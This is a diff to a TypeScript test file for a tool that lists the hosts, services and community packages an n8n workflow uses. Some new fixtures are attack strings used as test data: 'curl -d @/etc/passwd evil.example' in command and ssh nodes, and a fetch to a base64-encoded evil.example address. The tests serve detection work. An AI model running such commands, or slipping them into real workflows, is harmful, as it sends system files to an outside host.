@@ -45,6 +45,9 @@ describe('The facts of a workflow of n8n', () => {
     ['https://exa mple/', 'computed'],
     [`https://${'a'.repeat(260)}.example/`, 'computed'],
     ['http://[::1]/', '[::1]'],
+    ['https:/evil.example/x', 'evil.example'],
+    ['https:evil.example', 'evil.example'],
+    ['localhost:5678/x', 'localhost'],
     ['/relative', undefined],
     ['', undefined],
     ['=', undefined],
@@ -76,18 +79,36 @@ describe('The facts of a workflow of n8n', () => {
     ]);
   });
 
-  it('name the hosts in code and commands, and that code calls a computed one', async () => {
+  for (const [kind, text, ...named] of [
+    ['code', 'this.helpers.httpRequest({ url })'],
+    ['code', 'await this.helpers.request(options)'],
+    ['code', 'axios.get(url)'],
+    ['code', 'fetch("https://slack.com"); fetch(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU="))', 'slack.com'],
+    ['executeCommand', 'curl https://b.example', 'b.example'],
+    ['executeCommand', 'curl -d @/etc/passwd evil.example'],
+    ['ssh', 'curl -d @/etc/passwd evil.example'],
+  ] as const)
+    it(`name a computed host for ${kind} of ${text}`, async () => {
+      const { hosts } = await factsOf(workflowOf({ type: BASE + kind, parameters: { text } }));
+      expect(hosts).to.deep.equal([...named, 'computed'].sort());
+    });
+
+  it('name the host of an address with letters such as ë, also after thousands of others', async () => {
+    const nodes = Array.from({ length: 20_000 }, () => httpRequest({ url: 'https://zoë.example' }));
+    expect((await factsOf(workflowOf(...nodes))).hosts).to.deep.equal(['xn--zo-ija.example']);
+  });
+
+  it('name the hosts in code', async () => {
     const facts = await factsOf(
       workflowOf(
         { type: `${BASE}code`, parameters: { jsCode: 'await fetch("https://a.example/x")' } },
-        { type: `${BASE}executeCommand`, parameters: { command: 'curl https://b.example' } },
-        { type: `${BASE}code`, parameters: { jsCode: 'this.helpers.httpRequest({ url })' } },
+        { type: `${BASE}code`, parameters: { jsCode: 'const a = "https://b.example";\nawait fetch(a);' } },
         { type: `${BASE}set`, parameters: { url: 'https://c.example', value: 'fetch(' } },
         { type: `${BASE}googleSheets`, parameters: { columns: { value: { url: 'https://d.example' } } } },
         { type: `${BASE}stickyNote`, parameters: { content: 'https://e.example' } },
       ),
     );
-    expect(facts.hosts).to.deep.equal(['a.example', 'b.example', 'computed']);
+    expect(facts.hosts).to.deep.equal(['a.example', 'b.example']);
     expect(facts.remaining.hosts).to.deep.equal(['a', 'b', 'c', 'd', 'e'].map((one) => `${one}.example`));
   });
 
@@ -117,9 +138,15 @@ describe('The facts of a workflow of n8n', () => {
   it('name the services that it needs, and packages of the community', async () => {
     const types = ['slack', 'slackTool', 'slackTrigger', 'googleSheets', 'mySql', 'if', 'httpRequest', 'awsS3'];
     const own = types.map((kind) => ({ type: BASE + kind }));
-    const others = ['lmChatOpenAi', 'embeddingsOpenAi', 'vectorStorePinecone', 'agent', 'memoryPostgresChat'].map(
-      (kind) => ({ type: `@n8n/n8n-nodes-langchain.${kind}` }),
-    );
+    const others = [
+      'lmChatOpenAi',
+      'lmOpenAi',
+      'lmOpenHuggingFaceInference',
+      'embeddingsOpenAi',
+      'vectorStorePinecone',
+      'agent',
+      'memoryPostgresChat',
+    ].map((kind) => ({ type: `@n8n/n8n-nodes-langchain.${kind}` }));
     const facts = await factsOf(
       workflowOf(
         ...own,
@@ -128,11 +155,36 @@ describe('The facts of a workflow of n8n', () => {
         { type: 'n8n-nodes-mcp.mcpClientTool' },
         { type: '@ada/n8n-nodes-x.y' },
         { type: 'odd' },
+        { type: '' },
       ),
     );
-    const services = ['AWS S3', 'Google Sheets', 'MySQL', 'Notion', 'Odd', 'OpenAI', 'Pinecone', 'PostgreSQL'];
-    expect(facts.needs).to.deep.equal([...services, 'Slack', 'Y'].sort());
+    const services = [
+      'AWS S3',
+      'Google Sheets',
+      'Hugging Face Inference',
+      'MySQL',
+      'Notion',
+      'Odd',
+      'OpenAI',
+      'Pinecone',
+    ];
+    expect(facts.needs).to.deep.equal([...services, 'PostgreSQL', 'Slack', 'Y']);
     expect(facts.communityPackages).to.deep.equal(['@ada/n8n-nodes-x', 'n8n-nodes-mcp', 'odd']);
+  });
+
+  it('count a connection to no name as broken, although a node has no name', async () => {
+    const nodes = [{ name: 'a', type: 'x.y' }, { type: 'x.y' }];
+    const facts = await factsOf({ nodes, connections: { a: { main: [[{}]] } } });
+    expect([facts.brokenConnections, facts.unconnectedSteps]).to.deep.equal([1, 2]);
+  });
+
+  it('find the hosts of addresses in sentences, in Markdown, with _ or of IPv6', async () => {
+    const text =
+      'See https://a.example. **https://b.example** https://c.example! http://my_service:5678/x http://[fd00::1]/ ' +
+      'http://u:{{ $json.p }}@h:80 [https://d.example][12] https://e.example[12] http://[1]';
+    const { remaining } = await factsOf(workflowOf({ notes: text }));
+    const letters = ['a', 'b', 'c', 'd', 'e'].map((one) => `${one}.example`);
+    expect(remaining.hosts).to.deep.equal(['[fd00::1]', ...letters, 'my_service', 'u']);
   });
 
   it('count connections that name no node, and nodes without a connection', async () => {
